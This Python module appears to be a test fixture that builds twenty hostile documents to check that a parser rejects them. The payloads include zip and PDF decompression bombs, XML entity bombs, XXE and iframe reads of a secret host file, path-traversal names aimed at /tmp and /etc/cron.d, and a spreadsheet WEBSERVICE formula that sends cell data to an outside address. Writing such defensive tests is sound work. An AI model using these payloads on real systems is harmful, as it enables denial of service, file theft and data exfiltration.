"""Twenty files that attack their reader, each with what may become of it. Knows no reader."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from io import BytesIO

import docx
from openpyxl import Workbook
from PIL import Image

KNOWN = "The known sentence weighs 3 kilograms."
MIB = 1 << 20


@dataclass(frozen=True, slots=True)
class Attack:
    """A file with the code of the error that refuses it; None: what is harmless in it is read."""

    name: str
    content: bytes
    code: str | None = None


def word(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    buffer = BytesIO()
    document = docx.Document()
    document.add_paragraph(KNOWN)
    document.save(buffer)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return buffer.getvalue()


def bomb(archive: zipfile.ZipFile) -> None:
    with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
        for _ in range(600):
            part.write(bytes(MIB))


def lie_about_size(content: bytes) -> bytes:
    """Return the archive whose directory says that its largest part has one byte."""
    data = bytearray(content)
    start = data.rindex(b"PK\x01\x02")
    data[start + 24 : start + 28] = struct.pack("<I", 1)
    return bytes(data)


def laughs() -> bytes:
    entities = b"<!ENTITY a0 'ha'>" + b"".join(
        b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
    )
    return b"<!DOCTYPE x [" + entities + b"]><x>&a11;</x>"


def steal(path: str) -> bytes:
    return f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{path}'>]><x>{KNOWN} &e;</x>".encode()


def mail(name: str) -> bytes:
    message = EmailMessage()
    message["Subject"] = "Hello"
    message["From"] = "a@example.org"
    message.set_content(KNOWN)
    message.add_attachment(b"root::0:0::/:/bin/sh", "application", "octet-stream", filename=name)
    return message.as_bytes()


def nested_mail(depth: int) -> bytes:
    head = b"Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
    return head * depth + b"Subject: s\r\n\r\n" + KNOWN.encode()


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj %s endobj\n" % (n, data) for n, data in enumerate(objects, 1))
    return (
        b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R /Size %d >>\n%%%%EOF" % (len(objects) + 1)
    )


def packed_stream() -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * MIB) for _ in range(3000)) + packer.flush()
    twice = zlib.compress(data, 9)
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >> stream\n%s\nendstream"
        % (len(twice), twice),
    )


def circle() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>",
    )


def picture(width: int) -> bytes:
    buffer = BytesIO()
    Image.new("1", (width, width)).save(buffer, "PNG")
    return buffer.getvalue()


def sheet(value: str) -> bytes:
    book = Workbook()
    book.active.append(["text", "formula"])
    book.active.append([KNOWN, value])
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def attacks(secret: str) -> list[Attack]:
    """Return the files; ``secret`` is the path of a file of the host that none may show."""
    bad = "unreadable_document"
    html = f"<p>{KNOWN}</p><iframe src='file://{secret}'></iframe><img src='file://{secret}'>"
    return [
        Attack("zip-bomb.docx", word(bomb), "too_large"),
        Attack("liar.docx", lie_about_size(word(bomb)), bad),
        Attack("macros.docx", word(lambda a: a.writestr("word/vbaProject.bin", b"\xd0\xcf" * 999))),
        Attack("path.docx", word(lambda a: a.writestr("../../../../tmp/evil.txt", "evil"))),
        Attack("formula.xlsx", sheet('=WEBSERVICE("http://203.0.113.1/?x="&A2)')),
        Attack("laughs.xml", laughs(), bad),
        Attack("entity.xml", steal(secret), bad),
        Attack("deep.xml", b"<a>" * 200_000, bad),
        Attack("deep.json", b"[" * 200_000 + b"]" * 200_000, bad),
        Attack("frame.html", html.encode()),
        Attack("brackets.md", b"[" * 200_000, "empty_document"),
        Attack("quotes.csv", b'"' * 300_001, bad),
        Attack("include.rst", f"{KNOWN}\n\n.. include:: {secret}\n".encode()),
        Attack("circle.pdf", circle(), bad),
        Attack("stream.pdf", packed_stream(), "too_large"),
        Attack("path.eml", mail("../../../../etc/cron.d/evil")),
        Attack("nested.eml", nested_mail(2000), bad),
        Attack("pixels.png", picture(30_000), bad),
        Attack("archive.zip", word(lambda a: None), "unsupported_format"),
        Attack("objects.rtf", b"{\\rtf1 known {\\object\\objdata " + b"d0cf" * 99 + b"}}"),
    ]
